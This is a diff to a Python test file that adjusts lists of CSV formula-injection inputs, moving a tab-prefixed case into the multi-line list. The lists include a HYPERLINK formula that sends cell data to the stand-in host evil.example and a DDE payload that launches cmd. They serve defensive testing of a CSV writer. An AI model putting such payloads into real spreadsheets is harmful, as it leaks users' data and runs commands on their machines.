@@ -169,9 +169,11 @@ def test_only_the_shared_writer_writes_csv() -> None:
 
 ONE_LINE = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', HYPERLINK, DDE,
             "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1",
-            "\uff20SUM(1,2)", " =1+1", "\u3000-1+1", "\t=1+1", "-3.5", "+86 851 0000 0001",
+            "\uff20SUM(1,2)", " =1+1", "\u3000-1+1", "-3.5", "+86 851 0000 0001",
             "'=1+1"]
-MULTI_LINE = [*ONE_LINE, "\n=1+1", "\r\n-1+1", "=1+1\n第二行"]
+#: one-line text cannot hold a tab or a line break (remit check refuses them): those
+#: starts are tried in multi-line text
+MULTI_LINE = [*ONE_LINE, "\t=1+1", "\n=1+1", "\r\n-1+1", "=1+1\n第二行"]
 PHONES = ["+86 851 0000 0001", "-851-0000-0001", "+86-851-0000-0001"]
 #: Text fields that are not free text: the finding an accepted gap names, a source's file.
 NOT_FREE_TEXT = {(m.AcceptedGap, "finding"), (m.AssetSource, "file")}
